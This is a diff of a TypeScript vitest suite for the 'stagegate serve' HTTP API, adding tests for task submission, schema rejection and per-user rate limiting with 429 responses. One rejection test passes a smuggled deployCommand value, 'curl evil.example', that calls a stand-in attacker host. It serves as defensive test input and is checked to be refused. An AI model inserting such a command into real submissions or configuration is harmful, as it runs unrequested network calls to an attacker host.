@@ -1,6 +1,8 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { jetstreamManager } from '@nats-io/jetstream';
 import { pino } from 'pino';
 import { connectBus, type NatsConnection } from '../../core/bus/connect.js';
+import { STREAMS } from '../../core/bus/subjects.js';
 import { ensureTopology } from '../../core/bus/topology.js';
 import type { TaskSpec } from '../../core/bus/messages.js';
 import { loadConfig, type Config } from '../../core/config.js';
@@ -42,7 +44,10 @@ beforeAll(async () => {
   orchestrator = await startOrchestrator({ nc, log: silent });
   agents = await startCannedAgents(nc);
   client = await createTaskClient(nc);
-  const loaded = loadConfig({ env: { NATS_URL: server.url, STAGEGATE_API_TOKENS: `api:deploy-bot=${BOT_TOKEN},api:outsider=${OUTSIDER_TOKEN}` } });
+  // Only submissions through serve are held to the limit: the tests' own client has none.
+  const loaded = loadConfig({
+    env: { NATS_URL: server.url, STAGEGATE_API_TOKENS: `api:deploy-bot=${BOT_TOKEN},api:outsider=${OUTSIDER_TOKEN}`, STAGEGATE_LIMIT_TRIGGERS_PER_USER: '1' },
+  });
   config = { ...loaded, serve: { ...loaded.serve, bodyLimitBytes: 16_384 } };
   serve = await startServe({ config, nc, log: silent, port: 0 });
 });
@@ -285,5 +290,58 @@ describe('stagegate serve: HTTP API', () => {
       json: { error: { code: 'ALREADY_DECIDED', message: expect.stringContaining('already decided by api:deploy-bot via api (rejected)') } },
     });
     expect((await client.get(taskId)).context.gateVisits.plan).toBe(2);
+  });
+});
+
+describe('stagegate serve: submitting over the HTTP API', () => {
+  /** The last message ever sent to the orchestrators: unchanged means nothing was sent. */
+  const inboxSequence = async () => (await (await jetstreamManager(nc)).streams.info(STREAMS.inbox)).state.last_seq;
+  const submission = { repo: 'https://git.example.com/acme/app.git', title: 'Add a greeting', body: 'say hello' };
+
+  it('submits a task as the principal of the token, with the configured gates, and answers 201 with its id', async () => {
+    const res = await call('POST', '/api/tasks', { body: submission });
+    expect(res.status).toBe(201);
+    const { taskId } = res.json.task as { taskId: string };
+    expect(res.json).toEqual({ task: { taskId, submittedBy: 'api:deploy-bot' } });
+    const record = await waitFor('the submitted task at the plan gate', stateOf(taskId, 'awaitingPlanApproval'));
+    expect(record.context.spec).toEqual({ ...submission, base: 'main', submittedBy: 'api:deploy-bot' });
+    expect(record.context.policies).toEqual(config.gates);
+  });
+
+  it('refuses a local path or a deploy command with 400 naming the field, submitting nothing', async () => {
+    const before = await inboxSequence();
+    expect(await call('POST', '/api/tasks', { body: { ...submission, repo: '/srv/repos/app' }, token: OUTSIDER_TOKEN })).toMatchObject({
+      status: 400,
+      json: { error: { code: 'SCHEMA_INVALID', message: expect.stringMatching(/^task submission: 'repo' expected a git URL the workers can clone/) } },
+    });
+    expect(await call('POST', '/api/tasks', { body: { ...submission, deployCommand: 'curl evil.example' }, token: OUTSIDER_TOKEN })).toMatchObject({
+      status: 400,
+      json: { error: { code: 'SCHEMA_INVALID', message: expect.stringContaining('deployCommand') } },
+    });
+    expect(await inboxSequence()).toBe(before);
+  });
+
+  it('answers 429 with the limit, the count and the reset when the principal is over its limit, and submits nothing', async () => {
+    const first = await call('POST', '/api/tasks', { body: submission, token: OUTSIDER_TOKEN });
+    expect(first.status).toBe(201);
+    await waitFor('the first task at the plan gate', stateOf((first.json.task as { taskId: string }).taskId, 'awaitingPlanApproval'));
+    const before = await inboxSequence();
+
+    const res = await call('POST', '/api/tasks', { body: submission, token: OUTSIDER_TOKEN });
+    expect(res.status).toBe(429);
+    const error = res.json.error as { refusal: { resetsAt: string } };
+    const resetsAt = error.refusal.resetsAt;
+    expect(Date.parse(resetsAt) % 3_600_000).toBe(0);
+    expect(res.json).toEqual({
+      error: {
+        code: 'LIMIT_REACHED',
+        message: `limit reached: api:outsider may start 1 task per hour (limits.triggersPerUser) and has started 1; it resets at ${resetsAt}`,
+        refusal: { limit: 'triggersPerUser', subject: 'api:outsider', value: 1, current: 1, windowMs: 3_600_000, resetsAt },
+      },
+    });
+    const retryAfter = Number(res.headers.get('retry-after'));
+    expect(retryAfter).toBeGreaterThanOrEqual(1);
+    expect(retryAfter).toBeLessThanOrEqual(3_600);
+    expect(await inboxSequence()).toBe(before);
   });
 });
